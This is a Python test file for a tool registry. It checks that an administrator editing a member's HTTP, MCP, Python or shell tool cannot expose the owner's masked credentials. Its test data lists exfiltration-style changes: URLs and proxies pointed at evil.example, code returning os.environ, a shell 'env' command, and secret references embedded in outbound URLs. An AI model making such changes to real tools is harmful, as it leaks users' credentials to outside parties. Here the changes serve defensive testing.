"""An admin who changes a member's tool cannot read the member's credentials."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import pytest

from pegboard import Caller, Pegboard
from pegboard.model.api_errors import Invalid, Refusal
from pegboard.model.secrets import MASK
from pegboard.registry.build_tool import write_definition
from pegboard.testing import member, memory_board
from tests.surfaces.rest.clients import mock

BEARER = {"type": "bearer", "token": "hush"}
HTTP = {"url": "https://example.com/", "method": "GET", "headers": {"X-Key": "hush"}}
PYTHON = {"code": "def run(host):\n    return host", "env": {"TOKEN": "hush"}}
SHELL = {"command": "curl {host}", "env": {"TOKEN": "hush"}}
MCP = {"server_url": "https://example.com/mcp", "headers": {"X-Key": "hush"}}
HOST = {"type": "object", "properties": {"host": {"enum": ["a.example", "b.example"]}}}
ANY_HOST = {"type": "object", "properties": {"host": {"type": "string"}}}


@pytest.fixture
async def board() -> AsyncIterator[Pegboard]:
    """A board on which members may register shell tools."""
    async with memory_board(shell_for_members=True) as fresh:
        yield fresh


def masked(config: dict[str, Any], **more: Any) -> dict[str, Any]:
    """Return the config as it is shown, with changes."""
    groups: dict[str, Any] = {
        group: dict.fromkeys(config[group], MASK) for group in ("headers", "env") if group in config
    }
    return {**config, **groups, **more}


async def owned(board: Pegboard, kind: str, config: dict[str, Any], **more: Any) -> Caller:
    ada = await member(board, "ada")
    await board.secrets.put("TOKEN", "hush", ada)
    await board.add({"name": "hers", "tool_type": kind, "input_schema": HOST, "config": config, **more}, caller=ada)
    return ada


MOVES: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    ("http", HTTP, {"config": masked(HTTP, url="https://evil.example/")}),
    ("http", HTTP, {"config": masked(HTTP, method="POST")}),
    ("http", HTTP, {"config": masked(HTTP, headers={"X-Key": MASK, "X-More": "1"})}),
    ("http", HTTP, {"config": masked(HTTP, response="full")}),
    ("http", HTTP, {"tool_type": "mcp", "config": {"server_url": "https://evil.example/", "headers": {"X-Key": MASK}}}),
    ("mcp", MCP, {"config": masked(MCP, server_url="https://evil.example/mcp")}),
    ("mcp", MCP, {"config": masked(MCP, tool="other")}),
    ("python", PYTHON, {"config": masked(PYTHON, code="import os\ndef run(host):\n    return dict(os.environ)")}),
    ("python", PYTHON, {"config": masked(PYTHON, network=True)}),
    ("python", PYTHON, {"config": masked(PYTHON, env={"TOKEN": MASK, "HTTPS_PROXY": "http://evil.example"})}),
    ("python", PYTHON, {"input_schema": ANY_HOST}),
    ("shell", SHELL, {"config": masked(SHELL, command="env {host}")}),
    ("shell", SHELL, {"config": masked(SHELL, network=True)}),
    ("shell", SHELL, {"input_schema": ANY_HOST}),
]


@pytest.mark.parametrize(("kind", "config", "patch"), MOVES)
async def test_a_change_of_what_a_tool_does_keeps_no_masked_value(
    board: Pegboard, kind: str, config: dict[str, Any], patch: dict[str, Any]
) -> None:
    ada = await owned(board, kind, config)
    before = await board.tools.get("hers", ada)
    with pytest.raises(Invalid, match=r"config\.(headers|env)\.\w.* is a credential of the tool's owner"):
        await board.tools.update("hers", patch, board.admin)
    definition = {**write_definition(before), **patch}
    with pytest.raises(Refusal, match="is a credential of the tool's owner"):
        await board.apply([definition])
    assert await board.tools.get("hers", ada) == before
    assert (await board.tools.update("hers", patch, ada)).version == 2, "its owner may"


@pytest.mark.parametrize(
    "patch",
    [
        {"config": {"url": "https://evil.example/", "method": "GET"}},
        {"tool_type": "mock", "config": {"mock_response": 1}},
        {"auth_config": {"type": "api_key", "api_key": MASK, "header": "X-Other"}},
        {"auth_config": {"type": "bearer", "token": "{{secret:TOKEN}}"}},
    ],
)
async def test_nor_does_it_keep_the_auth_config(board: Pegboard, patch: dict[str, Any]) -> None:
    auth = {"type": "api_key", "api_key": "hush"}
    await owned(board, "http", {"url": "https://example.com/", "method": "GET"}, auth_config=auth)
    with pytest.raises(Invalid, match="auth_config: holds credentials of the tool's owner"):
        await board.tools.update("hers", patch, board.admin)
    if "auth_config" not in patch:
        changed = await board.tools.update("hers", {**patch, "auth_config": None}, board.admin)
        assert changed.sealed_auth is None


@pytest.mark.parametrize(
    "config",
    [
        {"url": "https://evil.example/{{secret:TOKEN}}", "method": "GET"},
        {"url": "https://evil.example/", "method": "GET", "headers": {"X": "{{secret:TOKEN}}"}},
        {"url": "https://evil.example/", "method": "GET", "headers": {"X": "a {{secret:TOKEN}}"}},
    ],
)
async def test_nor_refers_an_admin_to_secrets_of_the_owner(board: Pegboard, config: dict[str, Any]) -> None:
    await owned(board, "http", {"url": "https://example.com/", "method": "GET"})
    with pytest.raises(Invalid, match=r"config: refers to secrets \('TOKEN'\) of the tool's owner"):
        await board.tools.update("hers", {"config": config}, board.admin)


async def test_what_concerns_no_credential_an_admin_changes_as_before(board: Pegboard) -> None:
    referring = {**HTTP, "url": "https://example.com/{{secret:TOKEN}}"}
    await owned(board, "http", referring, auth_config=BEARER)
    for patch in (
        {"is_active": False},
        {"rate_limit": {"max_calls": 1, "period": "hour"}},
        {"config": masked(referring, timeout=3)},
        {"auth_config": {"type": "bearer", "token": "the admin's"}},
    ):
        await board.tools.update("hers", patch, board.admin)
    own = {**HTTP, "url": "https://other.example/", "headers": {"X-Key": "the admin's"}}
    await board.tools.update("hers", {"config": own, "auth_config": BEARER}, board.admin)
    await board.add(mock("plain"), caller=await member(board, "bob"))
    await board.tools.update("plain", {"config": {"mock_response": 2}}, board.admin)
    assert (await board.call("plain")).output == 2
